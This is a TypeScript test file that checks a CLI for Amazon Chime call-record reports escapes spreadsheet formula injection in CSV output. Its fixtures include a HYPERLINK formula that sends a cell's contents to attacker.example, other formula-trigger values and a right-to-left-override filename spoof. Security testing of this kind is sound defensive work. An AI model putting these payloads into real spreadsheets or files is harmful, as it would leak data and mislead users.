import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import type { Manifest } from '../../job/sinks/manifest';
import { LocalStore } from '../../job/store/local';
import { writePrices } from '../fixtures/corpus';
import { runCli } from '../support/cli';
import { duckdbQuery } from '../support/duckdb';

const CONNECTOR = 'abcdef1ghij2klmno3pqr4';
const SUMMARY = 'Amazon-Chime-Voice-Connector-Summary/';
const REPORT = `${SUMMARY}csv/Daily/2025/02/10/`;
const START = Date.parse('2025-02-10T10:00:00Z') / 1000;
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

function cdr(id: string, patch: Record<string, unknown>): string {
  return JSON.stringify({
    AwsAccountId: '111122223333',
    TransactionId: id,
    VoiceConnectorId: CONNECTOR,
    BillableDurationSeconds: 60,
    BillableDurationMinutes: 1,
    SourcePhoneNumber: '+12065550100',
    DestinationPhoneNumber: '+12065550101',
    UsageType: 'USE1-US-US-outbound-minutes',
    StartTimeEpochSeconds: START,
    EndTimeEpochSeconds: START + 60,
    ...patch,
  });
}

describe('spreadsheet-safe CSV, end to end (--csv-bom, run and finalize)', function () {
  this.timeout(120_000);
  let dir: string;
  let store: LocalStore;
  const period = ['--frequency', 'Daily', '--end', '2025-02-10', '--quiet'];

  before(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'cdr-csv-safety-'));
    store = await LocalStore.open(dir);
    await writePrices(store, 'prices/');
    const folder = `Amazon-Chime-Voice-Connector-CDRs/json/${CONNECTOR}/2025/02/10/`;
    await store.write(`${folder}10.00.00.000_a`, cdr('a', { SourcePhoneNumberName: FORMULA, CallId: '@SUM(1+1)' }));
    await store.write(
      `${folder}10.00.00.001_b`,
      cdr('b', { StatusMessage: '-2+3', SourcePhoneNumberName: 'evil\u202etxt.exe', DestinationPhoneNumberName: '-5' }),
    );
  });

  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('run --csv-bom: BOM first, formulas neutralised, E.164 and numbers byte-exact, Parquet raw', async () => {
    const args = ['run', '--source', dir, '--dest', path.join(dir, 'one'), '--prices', path.join(dir, 'prices')];
    const result = await runCli([...args, ...period, '--csv-bom']);
    expect(result.code, result.stderr).to.equal(0);
    const manifest = JSON.parse((await store.read(`one/${REPORT}manifest.json`)).toString()) as Manifest;
    const bytes = await store.read(`one/${manifest.csvKey}`);
    expect(bytes.subarray(0, 3)).to.deep.equal(BOM);
    expect(manifest.csvBytes).to.equal(bytes.length);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith('AwsAccountId,TransactionId,')).to.equal(true);
    expect(text).to.include(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(text).to.include(",'@SUM(1+1),");
    expect(text).to.include(",'-2+3,");
    expect(text).to.include(',evil\ufffdtxt.exe,');
    expect(text).to.include(',-5,');
    expect(text).to.include(',+12065550100,');
    expect(text).to.include(',+12065550101,');
    const files = manifest.parquetKeys.map((key) => `'${path.join(dir, 'one', key)}'`).join(',');
    const rows = await duckdbQuery(
      `select TransactionId, SourcePhoneNumberName, CallId, StatusMessage from read_parquet([${files}]) order by 1`,
    );
    expect(rows).to.deep.equal([
      { TransactionId: 'a', SourcePhoneNumberName: FORMULA, CallId: '@SUM(1+1)', StatusMessage: null },
      { TransactionId: 'b', SourcePhoneNumberName: 'evil\u202etxt.exe', CallId: null, StatusMessage: '-2+3' },
    ]);
  });

  it('finalize --csv-bom writes the same bytes as the single run', async () => {
    const env = { CDR_LEASE_OWNER: 'batch:csv-bom-test' };
    for (const index of ['0', '1']) {
      const shard = await runCli(
        [
          'run',
          '--source',
          dir,
          '--dest',
          path.join(dir, 'sharded'),
          '--prices',
          path.join(dir, 'prices'),
          ...period,
          '--shards',
          '2',
          '--shard-index',
          index,
        ],
        env,
      );
      expect(shard.code, shard.stderr).to.equal(0);
    }
    const finalize = await runCli(
      ['finalize', '--dest', path.join(dir, 'sharded'), ...period, '--shards', '2', '--csv-bom'],
      env,
    );
    expect(finalize.code, finalize.stderr).to.equal(0);
    const one = JSON.parse((await store.read(`one/${REPORT}manifest.json`)).toString()) as Manifest;
    const two = JSON.parse((await store.read(`sharded/${REPORT}manifest.json`)).toString()) as Manifest;
    const bytes = await store.read(`sharded/${two.csvKey}`);
    expect(bytes.subarray(0, 3)).to.deep.equal(BOM);
    expect(bytes.equals(await store.read(`one/${one.csvKey}`))).to.equal(true);
    expect(two.csvBytes).to.equal(bytes.length);
  });
});
